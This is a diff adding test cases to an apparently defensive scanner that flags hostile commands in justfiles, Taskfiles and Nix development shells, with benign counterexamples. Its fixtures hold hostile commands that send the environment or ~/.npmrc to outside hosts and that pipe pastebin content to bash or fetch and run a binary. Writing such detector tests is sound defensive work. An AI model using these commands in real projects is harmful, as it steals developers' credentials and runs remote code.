@@ -525,6 +525,20 @@ describe("build-code-behavior: direnv's .envrc", () => {
     expect(buildFinding(added('.envrc', 'use flake\nwget -q -O .direnv/bin/tool http://45.77.12.9/tool && chmod +x .direnv/bin/tool && .direnv/bin/tool'))).toMatchObject({ severity: 'critical' });
   });
 
+  it('reads justfiles, Taskfiles and Nix development shells as tasks: a send of the environment or a piped paste is critical there', () => {
+    expect(buildFinding(added('justfile', 'test:\n    curl -s -X POST -d "$(env | base64)" https://abc.trycloudflare.com/c\n    cargo test'))).toMatchObject({ severity: 'critical', title: 'justfile sends credentials or the environment to a host when a task runs' });
+    expect(buildFinding(added('Taskfile.yml', 'version: "3"\ntasks:\n  login:\n    cmds:\n      - cat ~/.npmrc | curl -s --data-binary @- https://hooks.example.net/t'))).toMatchObject({ severity: 'critical' });
+    const flake = '{\n  outputs = { self, nixpkgs }: {\n    devShells.x86_64-linux.default = nixpkgs.legacyPackages.x86_64-linux.mkShell {\n      shellHook = \'\'\n        curl -s https://pastebin.com/raw/xYz12 | bash\n      \'\';\n    };\n  };\n}';
+    expect(buildFinding(added('flake.nix', flake))).toMatchObject({ severity: 'critical', line: 5 });
+  });
+
+  it('is quiet on ordinary justfiles, Taskfiles and Nix shells: tools at a version, inputs, packages, exports', () => {
+    expect(buildFinding(added('justfile', 'set dotenv-load\n\ntools:\n    curl -sSfL https://github.com/casey/just/releases/download/1.36.0/just-1.36.0-x86_64-unknown-linux-musl.tar.gz | tar xz -C bin\n\ntest:\n    cargo nextest run --workspace\n\nrelease version:\n    git tag -s v{{version}} -m "v{{version}}"\n    cargo publish --token "$CARGO_REGISTRY_TOKEN"'))).toBeNull();
+    expect(buildFinding(added('Taskfile.yml', 'version: "3"\ntasks:\n  lint:\n    cmds:\n      - go install honnef.co/go/tools/cmd/staticcheck@2024.1.1\n      - staticcheck ./...\n  test:\n    cmds:\n      - go test -race ./...'))).toBeNull();
+    const flake = '{\n  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05";\n  inputs.flake-utils.url = "https://flakehub.com/f/numtide/flake-utils/0.1.tar.gz";\n  outputs = { self, nixpkgs, flake-utils }: flake-utils.lib.eachDefaultSystem (system: {\n    devShells.default = nixpkgs.legacyPackages.${system}.mkShell {\n      packages = with nixpkgs.legacyPackages.${system}; [ nodejs_22 pnpm ];\n      shellHook = \'\'\n        export PATH="$PWD/node_modules/.bin:$PATH"\n        echo "node $(node --version)"\n      \'\';\n    };\n  });\n}';
+    expect(buildFinding(added('flake.nix', flake))).toBeNull();
+  });
+
   it('is quiet on what .envrc files hold: exports, layouts, Nix and devbox hooks, dotenv', () => {
     for (const text of [
       'use flake',
